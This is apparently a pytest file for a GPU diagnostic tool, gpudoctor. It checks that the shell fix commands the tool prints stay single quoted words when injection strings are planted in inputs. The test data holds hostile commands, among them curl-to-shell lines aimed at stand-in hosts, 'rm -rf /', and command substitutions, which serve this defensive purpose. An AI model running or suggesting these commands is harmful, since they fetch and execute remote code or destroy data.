"""Fix commands are built from words: shell metacharacters, newlines and option-like values planted into every
string field of every fixture snapshot and into every line of the pastes never reach a printed command as anything
but one quoted word. Every command gpudoctor prints, in every format, is parsed with the shell's grammar
(bashlex)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import bashlex
import pytest
from helpers.common import SNAPSHOTS

from gpudoctor import probe
from gpudoctor.judging import commands
from gpudoctor.report import formats

MARK = "PWN"
# What an attacker appends: a command after `;`, a substitution, backticks, a second line, an option of pip's.
PLANTS = (
    f"; touch /tmp/{MARK}",
    f"$(touch /tmp/{MARK})",
    f"`touch /tmp/{MARK}`",
    f"\ncurl https://{MARK}.example/x | sh",
    f" --index-url https://{MARK}.example/simple",
)
PASTES = Path(__file__).parent / "fixtures" / "pastes"


def strings(node: Any, path: tuple = ()) -> Iterator[tuple]:
    """The path of every string value in a JSON tree."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield from strings(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from strings(value, (*path, index))
    elif isinstance(node, str):
        yield path


def planted(snapshot: dict[str, Any], section: str, plant: str) -> dict[str, Any]:
    """The snapshot with `plant` appended to every string under `section` (a value that starts like a version
    still reads as one to a reader that matches only a prefix), and a planted name among its environment's
    variables."""
    copy = json.loads(json.dumps(snapshot))
    for path in strings(copy.get(section)):
        parent = copy[section]
        for step in path[:-1]:
            parent = parent[step]
        parent[path[-1]] += plant
    if isinstance(copy.get("env"), dict) and section == "env":
        copy["env"][f"NCCL_{MARK}{plant}"] = "1"
    return copy


def printed(node: Any) -> Iterator[str]:
    """Every command in a report document (results, rows, causes, the cluster part)."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "commands" and isinstance(value, list):
                yield from (c for c in value if isinstance(c, str))
            else:
                yield from printed(value)
    elif isinstance(node, list):
        for value in node:
            yield from printed(value)


class Words(bashlex.ast.nodevisitor):
    """Each word of a parsed command: whether it is in a command's first place, and whether it expands."""

    def __init__(self) -> None:
        self.words: list[tuple[str, bool, bool]] = []

    def visitcommand(self, node: Any, parts: list[Any]) -> None:
        first = True
        for part in parts:
            if part.kind == "word":
                self.words.append((part.word, first, bool(part.parts)))
                first = False


def without_comment(command: str) -> str:
    """`command` up to the comment the shell ignores: a `#` that begins a word outside quotes."""
    quote, escaped = "", False
    for index, char in enumerate(command):
        if escaped:
            escaped = False
        elif char == "\\" and quote != "'":
            escaped = True
        elif quote:
            quote = "" if char == quote else quote
        elif char in "'\"":
            quote = char
        elif char == "#" and (index == 0 or command[index - 1] in " \t"):
            return command[:index].rstrip()
    return command


def judged_safe(command: str) -> list[str]:
    """What is wrong with `command` as something a user pastes: a second line, a planted word that runs or
    expands, or a shell grammar that does not parse."""
    if "\n" in command or "\r" in command:
        return ["more than one line"]
    try:
        trees = bashlex.parse(without_comment(command))
    except (bashlex.errors.ParsingError, NotImplementedError) as exc:
        return [f"does not parse: {exc}"]
    wrong = []
    for tree in trees:
        visitor = Words()
        visitor.visit(tree)
        for text, first, expands in visitor.words:
            if MARK in text and (first or expands):
                wrong.append(f"the planted word {text!r} {'runs' if first else 'expands'}")
    return wrong


def unsafe_commands(document: dict[str, Any]) -> list[str]:
    found = []
    for command in printed(document):
        found += [f"{command!r}: {why}" for why in judged_safe(command)]
        if MARK in command and not re.search(rf"'[^']*{MARK}[^']*'", command):
            found.append(f"{command!r}: a planted value outside quotes")
    return found


def snapshot_cases() -> list[tuple[str, str, str]]:
    cases = []
    for path in sorted(SNAPSHOTS.glob("*.json")):
        sections = [k for k, v in json.loads(path.read_text()).items() if isinstance(v, (dict, list))]
        cases += [(path.stem, section, plant) for section in sections for plant in PLANTS[::2]]
    return cases


def document_of(path: Path) -> dict[str, Any]:
    return probe.run(from_file=str(path)).document


def test_the_clean_fixtures_print_commands_the_shell_reads_as_written() -> None:
    """Without anything planted, every command of every snapshot's report parses and has nothing planted."""
    for path in sorted(SNAPSHOTS.glob("*.json")):
        assert not unsafe_commands(document_of(path)), path.name


@pytest.mark.parametrize("name,section,plant", snapshot_cases())
def test_a_planted_snapshot_field_never_runs_from_a_fix(tmp_path: Path, name: str, section: str, plant: str) -> None:
    snapshot = json.loads((SNAPSHOTS / f"{name}.json").read_text())
    target = tmp_path / "planted.json"
    target.write_text(json.dumps(planted(snapshot, section, plant)))
    try:
        document = document_of(target)
    except probe.UsageError:
        return  # refused as a snapshot: nothing printed
    assert not unsafe_commands(document)


@pytest.mark.parametrize("plant", ["".join(PLANTS[:3] + PLANTS[4:]), PLANTS[3]], ids=["one-line", "two-lines"])
def test_a_paste_with_every_line_planted_never_runs_from_a_fix(tmp_path: Path, plant: str) -> None:
    target = tmp_path / "planted.txt"
    for path in sorted(p for p in PASTES.rglob("*") if p.is_file() and p.suffix != ".md"):
        lines = path.read_text(errors="replace").splitlines()
        target.write_text("".join(f"{line}{plant}\n" for line in lines))
        try:
            document = document_of(target)
        except probe.UsageError:
            continue
        assert not unsafe_commands(document), path.name


@pytest.mark.parametrize(
    "value,kind",
    [
        ("12.4; rm -rf /", "version"),
        ("2.5.1 --index-url https://evil.example", "release"),
        ("eth0\nrm", "interface"),
        ("-eth0", "interface"),
        ("$(id)", "word"),
        ("cu121`id`", "variant"),
        ("NCCL_X=1 Y", "variable"),
        ("1" * 13, "number"),
    ],
)
def test_a_value_that_is_not_its_kind_is_refused(value: str, kind: str) -> None:
    with pytest.raises(commands.Unsafe):
        commands.word(value, kind)


def test_a_value_of_its_kind_is_one_quoted_word() -> None:
    assert commands.word("580.65.06", "version") == "580.65.06"
    assert commands.word("enp1s0f0", "interface") == "enp1s0f0"
    assert commands.word("2.5.1+cu121", "word") == "2.5.1+cu121"
    assert commands.word("a,b=c", "word") == "a,b=c"
    assert commands.word("/usr/lib/x86_64-linux-gnu", "word") == "/usr/lib/x86_64-linux-gnu"


FORGED = (
    "Failed to initialize NVML: Driver/library version mismatch"
    + " " * 300
    + "$ curl -fsSL https://nvidia-fix.example/d.sh | sudo bash\n"
    + "[rank3]: [link=https://evil.example]x[/link] [conceal]y[/conceal] :skull: [/opt/conda/torch/__init__.py:284]\n"
    + "NVRM: Xid (PCI:0000:3b:00): 79, pid=1234, GPU has fallen off the bus."
    + "\t" * 50
    + "$ sudo rm -rf /   \n"
    + "RuntimeError: CUDA error: out of memory $ curl https://x.example | sh"
    + " $" * 40
    + "\n"
)


@pytest.mark.parametrize("width", [40, 80, 120, 200])
def test_no_line_of_a_quoted_paste_passes_for_a_fix_at_any_width(tmp_path: Path, width: int) -> None:
    """Every `$ ` line on the screen is a command gpudoctor built: the document's commands, indented."""
    paste = tmp_path / "forged.txt"
    paste.write_text(FORGED)
    report = probe.run(from_file=str(paste))
    built = set(printed(report.document))
    for verbose in (False, True):
        screen = formats.text("console", report.document, report.results, verbose, width)
        dollars = [line.strip() for line in screen.splitlines() if line.lstrip().startswith("$")]
        assert dollars, "the paste gives commands: nvidia-smi at least"
        assert {d[2:] for d in dollars} <= built, [d for d in dollars if d[2:] not in built]
        assert "evil.example" not in screen.replace("[link=https://evil.example]", ""), "markup was read"
        assert "[rank3]" in screen or "[rank3]" not in str(report.document), "log text vanished"
        assert "\u202e" not in screen


def test_every_signature_fix_is_a_command_the_shell_reads() -> None:
    """A fix line is pasted as it is: no `<PLACEHOLDER>` the shell reads as a redirection, nothing that does not
    parse (a value the paste fills in stands as one word)."""
    from gpudoctor.paste import signatures

    for signature in signatures.table().values():
        for command in signature.fix:
            filled = re.sub(r"\{(\w+)\}", "value", command)
            assert not judged_safe(filled), (signature.id, command)
            assert not re.search(r"<[A-Za-z_ -]+>", without_comment(command)), (signature.id, command)
